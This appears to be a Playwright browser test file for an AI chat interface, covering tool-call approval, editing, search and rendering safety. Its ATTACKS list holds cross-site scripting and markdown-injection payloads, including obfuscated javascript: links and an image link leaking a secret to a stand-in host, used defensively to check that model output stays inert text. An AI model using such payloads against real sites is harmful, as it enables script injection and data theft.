@@ -1,0 +1,205 @@
+"""The chat page in a real browser."""
+
+from __future__ import annotations
+
+import os
+import re
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+if not os.environ.get('STEAD_NEEDS_BROWSER'):
+    pytest.skip('`make test-browser` runs the tests of the pages', allow_module_level=True)
+
+from playwright.sync_api import Page, expect
+
+from tests.browser import agents
+from tests.browser.conftest import violations
+
+Open = Callable[..., Page]
+
+
+@pytest.fixture
+def chat(serve: Callable[[Any], str], open_page: Open) -> Callable[..., Page]:
+    url = serve(agents.support().to_web(models={'Test': 'test'}, examples=['Where is my order A-17?']))
+    return lambda **options: open_page(url, **options)
+
+
+def say(page: Page, text: str) -> None:
+    page.get_by_label('Message', exact=True).fill(text)
+    answers = page.locator('.turn-answer').count()
+    page.keyboard.press('Enter')
+    expect(page.locator('.turn-answer')).to_have_count(answers + 1)
+    expect(last(page)).to_have_attribute('aria-busy', 'false')
+
+
+def last(page: Page) -> Any:
+    return page.locator('.turn-answer').last
+
+
+@pytest.mark.parametrize('width', [1200, 390])
+@pytest.mark.parametrize('dark', [False, True])
+def test_a_conversation_from_its_beginning(chat: Callable[..., Page], width: int, dark: bool) -> None:
+    page = chat(width=width, dark=dark)
+    page.get_by_label('Message', exact=True).wait_for()
+    assert violations(page) == []
+    page.get_by_role('button', name='Where is my order A-17?').click()
+    expect(last(page)).to_contain_text('Shall I ask the carrier to ring?')
+    page.get_by_role('button', name='Send').wait_for()
+    expect(last(page).get_by_role('table')).to_contain_text('Clay pot')
+    card = last(page).locator('details.card').first
+    expect(card).to_contain_text('Find order')
+    expect(card).to_contain_text(re.compile(r'\d ms'))
+    card.locator('summary').click()
+    expect(card).to_contain_text('M. de Wit')
+    last(page).get_by_text('Thought').first.click()
+    expect(last(page)).to_contain_text('The customer asks about order A-17')
+    assert violations(page) == []
+    assert page.evaluate('document.documentElement.scrollWidth <= innerWidth')
+    page.reload()
+    expect(last(page)).to_contain_text('Shall I ask the carrier to ring?')
+
+
+def test_a_call_is_decided_about(chat: Callable[..., Page]) -> None:
+    page = chat()
+    say(page, 'please refund the pot')
+    asking = page.get_by_role('region', name='Decision about Refund')
+    expect(asking).to_contain_text('24.5')
+    expect(page.get_by_role('status')).to_have_text('A tool needs your approval.')
+    assert violations(page) == []
+    asking.get_by_role('button', name='Edit').click()
+    field = asking.get_by_label('Arguments, as JSON')
+    field.fill('{"order": ')
+    asking.get_by_role('button', name='Allow with these arguments').click()
+    expect(asking.get_by_role('alert')).to_contain_text('That is not JSON')
+    field.fill('{"order": "A-17", "amount": 3, "reason": "x"}')
+    page.reload()  # what waits is kept by the server
+    page.get_by_role('button', name='Deny').click()
+    page.get_by_label('Why not?').fill('not today')
+    page.get_by_role('button', name='Deny').click()
+    expect(last(page)).to_contain_text('I have not paid anything back')
+    say(page, 'refund the pot after all')
+    page.get_by_role('button', name='Always allow in this chat').click()
+    expect(last(page)).to_contain_text("I've paid back")
+    say(page, 'refund it once more')
+    expect(last(page)).to_contain_text("I've paid back")
+    expect(page.get_by_role('region', name='Decision about Refund')).to_have_count(0)
+
+
+def test_stop_answer_again_edit_and_search(chat: Callable[..., Page], monkeypatch: pytest.MonkeyPatch) -> None:
+    page = chat()
+    say(page, 'hello')
+    monkeypatch.setattr(agents, 'PAUSE', 0.02)
+    page.get_by_label('Message', exact=True).fill('something long')
+    page.keyboard.press('Enter')
+    expect(last(page)).to_contain_text('A line about ferns')
+    page.keyboard.press('Escape')
+    expect(last(page)).to_contain_text('Stopped')
+    page.wait_for_timeout(300)
+    page.reload()
+    expect(last(page)).to_contain_text('A line about ferns')
+    monkeypatch.setattr(agents, 'PAUSE', 0)
+    say(page, 'hello again')
+    last(page).get_by_role('button', name='Answer again').click()
+    page.get_by_role('button', name='Send').wait_for()
+    expect(page.locator('.turn-user')).to_have_count(3)
+    page.get_by_role('button', name='Edit in a new branch').first.click()
+    page.get_by_role('textbox', name='Message').first.fill('where is my order?')
+    page.keyboard.press('Enter')
+    expect(last(page)).to_contain_text('Shall I ask the carrier to ring?')
+    expect(page.locator('.turn-user')).to_have_count(1)
+    talks = page.locator('.talk')
+    expect(talks).to_have_count(2)
+    page.get_by_label('Search chats').fill('carrier')
+    expect(talks).to_have_count(1)
+    page.get_by_label('Search chats').fill('')
+    expect(talks).to_have_count(2)
+    page.get_by_role('button', name='hello', exact=True).click()
+    expect(page.locator('.turn-user')).to_have_count(3)
+    page.on('dialog', lambda dialog: dialog.accept())
+    page.get_by_role('button', name='Delete hello').click()
+    expect(talks).to_have_count(1)
+    expect(page.get_by_text('What can I do for you?')).to_be_visible()
+
+
+def test_an_error_has_words_and_nothing_else(chat: Callable[..., Page], caplog: pytest.LogCaptureFixture) -> None:
+    page = chat()
+    say(page, 'please fail')
+    expect(last(page).get_by_role('alert')).to_contain_text('The log of the server says what')
+    assert 'secret' not in page.content()
+    assert 'postgres://desk:secret' in caplog.text
+    assert violations(page) == []
+
+
+def test_what_one_opened_and_selected_stays(chat: Callable[..., Page], monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(agents, 'PAUSE', 0.01)
+    page = chat()
+    page.get_by_label('Message', exact=True).fill('where is my order?')
+    page.keyboard.press('Enter')
+    expect(last(page)).to_contain_text('Here is what I found')
+    page.evaluate("""() => {
+        const text = [...document.querySelectorAll('.prose p')].find(one => one.textContent.includes('Here is what I found'));
+        window.seen = text;
+        document.querySelector('details.card').open = true;
+        getSelection().selectAllChildren(text);
+    }""")
+    page.get_by_role('button', name='Send').wait_for()
+    assert page.evaluate('window.seen.isConnected && document.querySelector("details.card").open')
+    assert 'Here is what I found' in page.evaluate('String(getSelection())')
+
+
+def test_the_end_is_followed_until_one_scrolls(chat: Callable[..., Page]) -> None:
+    page = chat()
+    say(page, 'something long')
+    log = 'document.querySelector(".log")'
+    away = f'{log}.scrollHeight - {log}.scrollTop - {log}.clientHeight'
+    page.wait_for_function(f'({away}) < 2')
+    page.evaluate('document.querySelector(".log").scrollTop = 0')
+    page.get_by_role('button', name='Jump to the end').wait_for()
+    say(page, 'hello')  # what one says oneself is followed again
+    page.wait_for_function(f'({away}) < 2')
+    page.evaluate('document.querySelector(".log").scrollTop = 0')
+    page.get_by_role('button', name='Jump to the end').click()
+    page.wait_for_function(f'({away}) < 2')
+
+
+ATTACKS = [
+    '<img src=x onerror="window.hit=1"><script>window.hit=1</script>',
+    '[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](data:text/html,<script>window.hit=1</script>) [d](vbscript:x)',
+    '![x](https://elsewhere.example/leak?secret) <https://elsewhere.example/auto>',
+    '[x](\x01javascript:window.hit=1) [y](java\nscript:window.hit=1) [z](&#106;avascript:window.hit=1) [w](%6aavascript:alert(1))',
+    '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s><math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
+    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><object data="javascript:window.hit=1"></object><a href="x" onclick="window.hit=1">x</a>',
+    '```"><img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>\n```',
+    '| a | b |\n|--|--|\n| <img src=x onerror=window.hit=1> | [x](javascript:window.hit=1) |',
+    '<form action="https://elsewhere.example"><button>x</button></form><meta http-equiv="refresh" content="0;url=https://elsewhere.example"><base href="https://elsewhere.example">',
+    '[ref]: javascript:window.hit=1\n\n[ref] [x][ref] <div id="app" name="querySelector">clobber</div>',
+    '> ' * 300 + '<img src=x onerror=window.hit=1>',
+    '\u202e[evil](https://example.com/\u202e) ' + '[' * 2000 + '*_' * 2000,
+]
+
+
+def test_what_a_model_writes_is_only_text(serve: Callable[[Any], str], open_page: Open) -> None:
+    page = open_page(serve(agents.support().to_web()))
+    for attack in ATTACKS:
+        say(page, 'echo ' + attack)
+    page.reload()
+    page.locator('.turn-answer').last.wait_for()
+    assert page.evaluate('window.hit') is None
+    hrefs = page.evaluate('[...document.querySelectorAll(".prose a")].map(link => link.getAttribute("href"))')
+    assert hrefs
+    assert all(re.match(r'(https?://|mailto:)', href) for href in hrefs), hrefs
+    assert page.locator('.prose :is(img, iframe, object, form, svg:not(.icon), style, script, meta, base)').count() == 0
+    assert page.url.startswith('http://127.0.0.1')
+
+
+def test_the_first_paint_is_quick(chat: Callable[..., Page]) -> None:
+    page = chat()
+    times = []
+    for _ in range(5):
+        page.reload()
+        page.get_by_label('Message', exact=True).wait_for()
+        page.wait_for_function('performance.getEntriesByName("first-contentful-paint").length')
+        times.append(page.evaluate('performance.getEntriesByName("first-contentful-paint")[0].startTime'))
+    assert min(times) < 150, times  # 100 ms on a quiet machine
